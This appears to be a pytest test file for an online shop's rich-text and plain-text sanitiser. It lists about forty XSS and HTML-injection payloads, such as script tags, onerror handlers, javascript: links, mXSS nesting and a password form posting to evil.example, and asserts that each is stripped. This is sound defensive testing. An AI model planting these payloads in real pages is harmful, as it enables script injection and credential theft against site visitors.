"""What merchants write is shown, and nothing that it brings along is done."""

from html.parser import HTMLParser

import pytest

from cardshop.common.rich_text import LONGEST, plain_text, rich_text

ALLOWED = {
    "a": {"href", "title", "rel"},
    "img": {"src", "alt", "title", "loading"},
    "ol": {"start"},
}
HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT >",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    '<img src="https://evil.example/pixel.png" alt="a">',
    '<img src="//evil.example/media/products/a.png" alt="a">',
    '<img src="/media/products/../../o/x" alt="a">',
    '<img srcset="https://evil.example/a.png 2x" src="/media/products/a.png">',
    "![x](https://evil.example/pixel.png)",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" java\nscript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:x" target="_blank" rel="opener" ping="https://evil.example">x</a>',
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert%281%29)",
    "<javascript:alert(1)>",
    "<style>body{display:none}</style>",
    '<p style="position:fixed;inset:0">x</p>',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    "<svg onload=alert(1)><script>alert(1)</script><a xlink:href='javascript:alert(1)'>x</a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<iframe src="https://evil.example" srcdoc="<script>alert(1)</script>">x</iframe>',
    '<object data="https://evil.example"></object><embed src="https://evil.example">',
    '<form action="https://evil.example"><input name="pass"><button>Pay</button></form>',
    '<div id="main" class="button" name="order">x</div><a name="order" id="order" class="way">x</a>',
    '<video src="https://evil.example/a.mp4" autoplay></video><audio src=x></audio>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<template><script>alert(1)</script></template>",
    "```html\n<script>alert(1)</script>\n```",
    "`<img src=x onerror=alert(1)>`",
    '<p data-copy data-step="1" data-join role="alert" tabindex="0" aria-hidden="true">x</p>',
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<!--[if IE]><script>alert(1)</script><![endif]--><![CDATA[<script>alert(1)</script>]]>",
    "\0<script\0>alert(1)</script>",
]


class Seen(HTMLParser):
    """Every tag and every attribute that a browser would meet."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))


@pytest.mark.parametrize("source", HOSTILE)
def test_nothing_hostile_comes_through(source):
    for tag, attributes in Seen(rich_text(f"A text.\n\n{source}\n\nThe end.")).tags:
        assert tag not in {
            "script",
            "style",
            "iframe",
            "svg",
            "math",
            "form",
            "input",
            "object",
            "link",
            "base",
        }
        assert attributes.keys() <= ALLOWED.get(tag, set()), (tag, attributes)
        assert (attributes.get("href") or "https:").startswith(("https:", "http:", "mailto:", "/", "#"))
        if tag == "img":
            assert (attributes.get("src") or "/media/products/").startswith("/media/products/")
            assert ".." not in (attributes.get("src") or "")


@pytest.mark.parametrize("source", HOSTILE)
def test_what_stands_around_it_is_still_read(source):
    shown = rich_text(f"A text.\n\n{source}")

    assert "<p>A text.</p>" in shown


def test_markdown_and_simple_html_are_shown():
    shown = rich_text("**bold** and <b>bold</b>\nnext line\n\n1. one\n2. two\n\n| a |\n|---|\n| b |")

    assert "<strong>bold</strong> and <b>bold</b><br>" in shown
    assert "<li>two</li>" in shown
    assert "<td>b</td>" in shown


def test_plain_text_stays_as_it_was_typed():
    assert rich_text("　　第一行\n    第二行 a < b & c") == "<p>第一行<br>\n第二行 a &lt; b &amp; c</p>\n"


def test_links_pass_no_reputation_and_no_window_on():
    assert rich_text("[site](https://a.example)") == (
        '<p><a href="https://a.example" rel="nofollow noopener noreferrer">site</a></p>\n'
    )


def test_pictures_of_the_shop_are_shown_and_others_left_out():
    assert 'src="/media/products/0a1b.webp"' in rich_text("![cover](/media/products/0a1b.webp)")
    assert (
        rich_text("![cover](https://elsewhere.example/a.png)") == '<p><img loading="lazy" alt="cover"></p>\n'
    )


@pytest.mark.parametrize("highest", ["#", "##", "####"])
def test_headings_begin_below_those_of_the_page_without_a_gap(highest):
    shown = rich_text(f"{highest} first\n\n{highest}# second")

    assert "<h3>first</h3>" in shown
    assert "<h4>second</h4>" in shown


NESTED = {
    "quotes": ">",
    "brackets": "[",
    "pictures": "![",
    "emphasis": "*a **b ",
    "lists": "- ",
    "tags": "<b>",
    "blocks": "<div>",
    "rows": "<table><tr><td>",
    "closings": "</p>",
    "entities": "&#x",
    "ticks": "`a``",
    "links": "[a](",
    "pipes": "|",
}


@pytest.mark.parametrize("part", NESTED.values(), ids=NESTED)
@pytest.mark.timeout(20)
def test_a_megabyte_of_nesting_is_neither_taken_apart_nor_shown_as_markup(part):
    source = part * (1_000_000 // len(part))

    assert not Seen(rich_text(source)).tags[1:]


@pytest.mark.parametrize("part", NESTED.values(), ids=NESTED)
@pytest.mark.timeout(20)
def test_as_much_nesting_as_is_taken_apart_is_done_with_soon(part):
    rich_text(part * (LONGEST // len(part)))
    plain_text(part * (LONGEST // len(part)))


def test_a_mail_has_lists_and_addresses_as_text():
    source = (
        "## Redeem\n\n1. Open [the site](https://a.example/x?a=1&b=2)\n2. Enter it <b>at once</b>\n\n"
        "- **never** share it\n- <https://b.example>\n\n<script>alert(1)</script>a &lt; b"
    )

    assert plain_text(source) == (
        "Redeem\n\n1. Open the site (https://a.example/x?a=1&b=2)\n2. Enter it at once\n\n"
        "- never share it\n- https://b.example\n\na < b"
    )


@pytest.mark.parametrize(
    ("source", "text"),
    [
        ('<a href="https://a.example">', "(https://a.example)"),
        (f'<ol start="{"9" * 5000}"><li>first</li></ol>', "1. first"),
    ],
    ids=["a link with nothing before or in it", "a number longer than Python reads"],
)
def test_odd_html_keeps_no_mail_from_being_written(source, text):
    assert plain_text(source) == text
